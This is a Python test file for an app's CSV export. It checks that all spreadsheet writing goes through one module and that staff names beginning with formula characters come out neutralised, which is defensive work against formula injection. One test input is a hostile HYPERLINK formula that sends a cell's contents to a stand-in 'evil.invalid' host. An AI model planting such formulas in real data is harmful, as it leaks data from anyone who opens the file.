"""Every table that leaves the house is written in one place, which no formula passes."""

import re
from pathlib import Path

import yingda
from tests.journeys.conftest import House
from yingda.accounts.types import Role

ROOT = Path(yingda.__file__).parent
WRITERS = re.compile(r"\bcsv\.writer|\bcsv\.DictWriter|import xlsxwriter|openpyxl import Workbook|BOM \+")
FORMULA = '=HYPERLINK("http://evil.invalid/?"&A1,"点我")'


def written_elsewhere(root: Path) -> set[str]:
    files = {file: file.read_text("utf-8") for file in root.rglob("*.py")}
    return {str(file.relative_to(root)) for file, text in files.items() if WRITERS.search(text)}


def test_tables_are_written_in_one_place() -> None:
    assert written_elsewhere(ROOT) == {"kit/tables.py"}


def test_a_table_written_elsewhere_is_seen(tmp_path: Path) -> None:
    (tmp_path / "room.py").write_text("import csv\nw = csv.writer(out)\n")
    assert written_elsewhere(tmp_path) == {"room.py"}


def test_names_of_staff_and_shops_are_texts_in_the_table_of_figures(house: House) -> None:
    boss = house.agent("boss", Role.ADMIN)
    for name in (FORMULA, "\t=1+1", "@SUM(1)", "-2+3", "+1"):
        house.desk.staff(f"s{abs(hash(name))}", house.shop_id)
        made = {"login": f"f{abs(hash(name))}", "name": name, "shop_ids": [house.shop_id]}
        boss.send("POST", "/staff", made, 201)
    house.guest().says("在吗")
    table = boss.client.get("/api/v1/figures.csv").text
    cells = [cell for line in table.splitlines() for cell in re.split(r',(?=(?:[^"]*"[^"]*")*[^"]*$)', line)]
    assert [cell for cell in cells if cell.strip('"\ufeff')[:1] in set("=+-@\t")] == []
